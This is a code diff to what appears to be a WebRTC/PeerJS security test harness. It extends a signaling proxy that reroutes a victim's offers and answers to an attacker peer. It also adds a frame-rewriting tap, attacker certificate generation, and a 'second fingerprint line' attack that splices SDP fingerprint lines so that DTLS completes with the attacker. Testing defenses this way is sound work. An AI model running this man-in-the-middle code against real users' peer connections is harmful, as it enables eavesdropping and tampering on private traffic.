@@ -15,7 +15,9 @@ const RELAYED = new Set(["OFFER", "ANSWER", "CANDIDATE"]);
 
 export async function startSignalingProxy(targetUrl) {
   const target = new URL(targetUrl);
-  const state = { attack: null, rewrittenToAttacker: 0, relabelledFromAttacker: 0, sockets: new Set() };
+  // tap: an optional ({ from, msg, sendUp }) => msg | null run on every JSON frame a browser sends,
+  // after the routing above; null holds the frame back (sendUp lets the tap send it later).
+  const state = { attack: null, tap: null, rewrittenToAttacker: 0, relabelledFromAttacker: 0, sockets: new Set() };
 
   const server = http.createServer((req, res) => {
     if (req.url === "/__attacker.html") {
@@ -52,7 +54,7 @@ export async function startSignalingProxy(targetUrl) {
       const pending = [];
       // A socket is the victim (the joiner) when it is neither the host nor the attacker.
       const isVictim = () => state.attack !== null && id !== state.attack.hostId && id !== state.attack.attackerId;
-      const toServer = (text) => {
+      const route = (text) => {
         if (!isVictim()) return text;
         let msg;
         try { msg = JSON.parse(text); } catch { return text; }
@@ -62,6 +64,18 @@ export async function startSignalingProxy(targetUrl) {
           return JSON.stringify(msg);
         }
         return text;
+      };
+      const sendUp = (text) => {
+        if (upstream.readyState === WebSocket.OPEN) upstream.send(text);
+        else pending.push(text);
+      };
+      const toServer = (text) => {
+        const routed = route(text);
+        if (!state.tap) return routed;
+        let msg;
+        try { msg = JSON.parse(routed); } catch { return routed; }
+        const out = state.tap({ from: id, msg, sendUp: (m) => sendUp(JSON.stringify(m)) });
+        return out === null ? null : JSON.stringify(out);
       };
       const toClient = (text) => {
         if (!isVictim()) return text;
@@ -76,8 +90,7 @@ export async function startSignalingProxy(targetUrl) {
       };
       client.on("message", (data, isBinary) => {
         const out = isBinary ? data : toServer(data.toString());
-        if (upstream.readyState === WebSocket.OPEN) upstream.send(out);
-        else pending.push(out);
+        if (out !== null) sendUp(out);
       });
       upstream.on("open", () => { for (const m of pending.splice(0)) upstream.send(m); });
       upstream.on("message", (data, isBinary) => {
@@ -103,7 +116,9 @@ export async function startSignalingProxy(targetUrl) {
     state,
     /** Routes every other peer's signaling for `hostId` to `attackerId`. */
     attack(hostId, attackerId) { state.attack = { hostId, attackerId }; },
-    honest() { state.attack = null; },
+    /** Runs `tap` on every frame browsers send (see `state.tap`); null removes it. */
+    tap(fn) { state.tap = fn; },
+    honest() { state.attack = null; state.tap = null; },
     async stop() {
       for (const c of state.sockets) c.terminate();
       wss.close();
@@ -119,7 +134,9 @@ export async function startSignalingProxy(targetUrl) {
  */
 export function attackerScript({ port, attackerId, hostId }) {
   const a = (window.attack = { joinerOpen: false, hostOpen: false, fromJoiner: 0, fromHost: 0, log: [], closed: [] });
-  const peer = new window.peerjs.Peer(attackerId, { host: "127.0.0.1", port, path: "/", key: "peerjs", secure: false, debug: 0, config: { iceServers: [] } });
+  // With `window.attackCertificate` (see attackerCertificateScript) every connection uses that one certificate.
+  const certificates = window.attackCertificate ? { certificates: [window.attackCertificate] } : {};
+  const peer = new window.peerjs.Peer(attackerId, { host: "127.0.0.1", port, path: "/", key: "peerjs", secure: false, debug: 0, config: { iceServers: [], ...certificates } });
   peer.on("open", () => (a.registered = true));
   peer.on("error", (e) => a.log.push(["error", String(e.type ?? e)]));
   peer.on("connection", (toJoiner) => {
@@ -145,4 +162,95 @@ export function attackerScript({ port, attackerId, hostId }) {
     toJoiner.on("close", () => a.closed.push("joiner"));
     toHost.on("close", () => a.closed.push("host"));
   });
+}
+
+/**
+ * Runs in the attacker's (Chromium) page: makes the certificate the attacker will use for every
+ * connection (`window.attackCertificate`) and returns its SHA-512 fingerprint line. A page cannot
+ * read its certificate's bytes directly, so a loopback connection has Chromium report it in getStats.
+ */
+export async function attackerCertificateScript() {
+  const cert = await RTCPeerConnection.generateCertificate({ name: "ECDSA", namedCurve: "P-256" });
+  const a = new RTCPeerConnection({ certificates: [cert] });
+  const b = new RTCPeerConnection();
+  a.onicecandidate = (e) => e.candidate && b.addIceCandidate(e.candidate);
+  b.onicecandidate = (e) => e.candidate && a.addIceCandidate(e.candidate);
+  const channel = a.createDataChannel("probe");
+  const open = new Promise((resolve) => (channel.onopen = resolve));
+  await a.setLocalDescription();
+  await b.setRemoteDescription(a.localDescription);
+  await b.setLocalDescription();
+  await a.setRemoteDescription(b.localDescription);
+  await open;
+  const stats = await a.getStats();
+  let der = null;
+  stats.forEach((s) => {
+    if (s.type === "transport" && s.localCertificateId) der = stats.get(s.localCertificateId)?.base64Certificate ?? null;
+  });
+  a.close();
+  b.close();
+  if (!der) throw new Error("the browser did not report its certificate");
+  const digest = new Uint8Array(await crypto.subtle.digest("SHA-512", Uint8Array.from(atob(der), (c) => c.charCodeAt(0))));
+  window.attackCertificate = cert;
+  return `a=fingerprint:sha-512 ${[...digest].map((x) => x.toString(16).padStart(2, "0").toUpperCase()).join(":")}`;
+}
+
+const FINGERPRINT_LINE = /^a=fingerprint:.*$/gm;
+
+/**
+ * A proxy tap (proxy.tap) for the second-fingerprint-line attack: in every description the attacker
+ * sends to one victim, its own fingerprint line is replaced by the OTHER victim's real one, and the
+ * attacker's `attackerLine` (a SHA-512 line of its certificate) is appended right after it. A
+ * browser that lets DTLS accept a certificate matching the appended line while the app reads the
+ * SHA-256 one completes DTLS with the attacker, and both sides' proofs bind to the real
+ * fingerprints. The attacker's frames to a victim wait until the other victim's line is known.
+ */
+export function spliceFingerprints({ hostId, attackerId, attackerLine }) {
+  const real = new Map(); // victim id → its real fingerprint line(s), from its own descriptions
+  let joinerId = null;
+  const held = new Map(); // dst → [msg, sendUp][], in order
+  const stats = { spliced: 0, held: 0, lines: [] };
+  const counterpart = (dst) => (dst === hostId ? joinerId : hostId);
+  const splice = (msg) => {
+    const lines = real.get(counterpart(msg.dst));
+    let first = true;
+    msg.payload.sdp.sdp = msg.payload.sdp.sdp.replace(FINGERPRINT_LINE, () => {
+      if (!first) return "";
+      first = false;
+      return `${lines.join("\r\n")}\r\n${attackerLine}`;
+    }).replace(/\r\n(?:\r\n)+/g, "\r\n");
+    stats.spliced++;
+    stats.lines.push(msg.payload.sdp.sdp.match(FINGERPRINT_LINE));
+    return msg;
+  };
+  const ready = (dst) => real.has(counterpart(dst));
+  const release = () => {
+    for (const [dst, queue] of held) {
+      if (!ready(dst)) continue;
+      held.delete(dst);
+      for (const [msg, sendUp] of queue) sendUp(msg.payload?.sdp?.sdp ? splice(msg) : msg);
+    }
+  };
+  const tap = ({ from, msg, sendUp }) => {
+    if (!RELAYED.has(msg?.type)) return msg;
+    const sdp = msg.payload?.sdp?.sdp;
+    if (from !== attackerId && msg.dst === attackerId) {
+      // A victim's description: remember its real line(s).
+      if (from !== hostId) joinerId = from;
+      if (typeof sdp === "string") real.set(from, sdp.match(FINGERPRINT_LINE) ?? []);
+      release();
+      return msg;
+    }
+    if (from === attackerId) {
+      if (held.has(msg.dst) || !ready(msg.dst)) {
+        if (!held.has(msg.dst)) held.set(msg.dst, []);
+        held.get(msg.dst).push([msg, sendUp]);
+        stats.held++;
+        return null;
+      }
+      return typeof sdp === "string" ? splice(msg) : msg;
+    }
+    return msg;
+  };
+  return { tap, stats };
 }
